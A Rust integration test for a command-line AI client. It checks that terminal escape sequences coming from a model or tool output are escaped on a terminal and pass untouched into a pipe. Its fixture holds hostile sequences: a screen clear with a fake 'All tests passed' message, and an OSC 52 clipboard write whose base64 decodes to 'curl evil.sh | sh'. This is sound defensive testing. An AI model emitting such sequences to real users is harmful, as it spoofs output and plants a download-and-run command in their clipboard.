//! What the model, a tool server or a provider sends never drives the user's terminal: escape
//! sequences in an answer, a tool name, a path or an error are shown escaped on a terminal,
//! while `-o text` into a pipe stays byte for byte (the control that shows the sequences are
//! really there). A terminal is a pseudo-terminal from util-linux `script`.

use std::process::Command;

use crate::common::mock::{MockServer, Reply};
use crate::common::sse::{self, B};
use crate::common::{Sandbox, run};

/// Window title, screen clear + fake success, clipboard write (OSC 52), cursor up + erase line.
const HOSTILE: &[&str] = &[
    "\x1b]0;pwned\x07",
    "\x1b[2J\x1b[HAll tests passed",
    "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
    "\x1b[7A\x1b[1K",
];

fn hostile_server(answer: &str) -> MockServer {
    let path = format!("notes{}.txt", HOSTILE[3]);
    let input = serde_json::json!({ "path": path }).to_string();
    MockServer::start(vec![
        Reply::sse(sse::anthropic(
            &[B::Tool("t1", "read_file", &input)],
            "tool_use",
            1,
            1,
        )),
        Reply::sse(sse::anthropic(&[B::Text(answer)], "end_turn", 1, 1)),
    ])
}

fn shell_quote(s: &str) -> String {
    format!("'{}'", s.replace('\'', r"'\''"))
}

#[test]
fn a_terminal_sees_escape_sequences_escaped_and_a_pipe_gets_them_as_they_are() {
    if Command::new("script").arg("--version").output().is_err() {
        eprintln!("skipped: no util-linux script to make a pseudo-terminal");
        return;
    }
    let answer = HOSTILE.concat();
    let sb = Sandbox::new();
    let server = hostile_server(&answer);
    // On a terminal: the answer on stdout, progress and the summary on stderr.
    let command = [env!("CARGO_BIN_EXE_rounds"), "--no-transcript", "go"]
        .map(shell_quote)
        .join(" ");
    let mut script = Command::new("script");
    script
        .args(["-qfec", &command, "/dev/null"])
        .env_clear()
        .env("PATH", std::env::var("PATH").unwrap_or_default())
        .env("HOME", sb.path("home"))
        .env("TERM", "xterm")
        .env("ANTHROPIC_API_KEY", "k")
        .env("ANTHROPIC_BASE_URL", server.url())
        .current_dir(sb.ws())
        .stdin(std::process::Stdio::null());
    let out = script.output().unwrap();
    let shown = String::from_utf8_lossy(&out.stdout).into_owned();
    assert!(shown.contains("pwned"), "the run did not answer: {shown:?}");
    for sequence in HOSTILE {
        assert!(
            !shown.contains(sequence),
            "{sequence:?} reached the terminal: {shown:?}"
        );
    }
    assert!(shown.contains(r"\x1b]52;c;"), "{shown:?}");
    assert!(shown.contains(r"\x1b[2J"), "{shown:?}");

    // The control: into a pipe, the answer is exactly what the model said.
    let server = hostile_server(&answer);
    let out = run(sb.anthropic(&server).args(["--no-transcript", "go"]));
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert_eq!(out.stdout, format!("{answer}\n"));
}
